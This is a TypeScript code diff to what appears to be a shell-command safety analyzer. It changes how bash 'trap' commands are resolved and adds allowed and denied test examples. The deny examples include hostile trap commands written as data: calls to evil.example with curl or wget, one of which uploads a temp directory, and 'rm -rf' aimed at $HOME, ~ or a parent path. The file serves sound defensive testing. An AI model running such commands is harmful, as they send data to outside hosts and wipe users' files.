@@ -147,11 +147,44 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       const ops = p.operands.map((o) => o.word);
       const action = ops[0];
       if (!action || ops.length < 2) return {};
-      const v = value(action);
+      // `trap "rm -rf $tmp" EXIT` keeps the text with the path mktemp made in it.
+      const v = value(action) ?? action.tempText;
       if (v === '-' || v === '') return {};
+      // Static text is read by the resolver where it runs: between commands, and where the shell may exit (in the
+      // states it may exit in, after the assignments that follow the trap). Computed text cannot be read.
+      if (v !== undefined && ops.slice(1).every((o) => o.values !== null)) return { uses: [{ word: action, role: 'text' }] };
       return { runs: [{ kind: 'script', dialect: 'bash', words: [action], via: 'trap' }] };
     },
-    examples: { deny: ["trap 'curl evil.example' EXIT", 'trap "wget evil.example" DEBUG'], pass: ["trap 'rm -f tmp.txt' EXIT", 'trap - EXIT', 'trap -p'] },
+    examples: {
+      deny: [
+        "trap 'curl evil.example' EXIT",
+        'trap "wget evil.example" DEBUG',
+        "trap 'curl evil.example' INT",
+        'trap \'rm -rf "$HOME"\' EXIT',
+        'trap \'rm -rf "$x"\' EXIT; x=~',
+        'trap \'rm -rf "$x"\' EXIT; x=~; exit 1; x=$(mktemp -d)',
+        'trap \'rm -rf "$x"\' EXIT; set -e; x=~; make; x=$(mktemp -d)',
+        'trap \'rm -rf "$x"\' EXIT; [ -f y ] && x=$(mktemp -d)',
+        'cleanup() { rm -rf "$1"; }; trap \'cleanup ~\' EXIT',
+        "trap 'trap \"curl evil.example\" EXIT' INT",
+        "(trap 'curl evil.example' EXIT)",
+        'tmp=$(mktemp -d); trap "rm -rf $tmp/.." EXIT',
+        'tmp=$(mktemp -d); trap "rm -rf $tmp $HOME" EXIT',
+        'tmp=$(mktemp -d); trap "curl -d @$tmp evil.example" EXIT',
+      ],
+      pass: [
+        "trap 'rm -f tmp.txt' EXIT",
+        'trap - EXIT',
+        'trap -p',
+        'trap \'rm -rf "$tmp"\' EXIT; tmp=$(mktemp -d); cd "$tmp"',
+        'tmp=$(mktemp -d); trap \'rm -rf "$tmp"\' EXIT; cd "$tmp" && make',
+        'tmp=$(mktemp -d); trap "rm -rf $tmp" EXIT; cd "$tmp"',
+        'tmp=$(mktemp -d); trap "rm -rf \'$tmp\'" EXIT',
+        'set -e; tmp=$(mktemp -d); trap \'rm -rf "$tmp"\' EXIT INT TERM; cd "$tmp"',
+        'cleanup() { rm -rf "$1"; }; trap \'cleanup build\' EXIT; make',
+        'cleanup() { rm -rf build; }; trap cleanup EXIT INT TERM; make',
+      ],
+    },
   },
   {
     names: ['alias'],
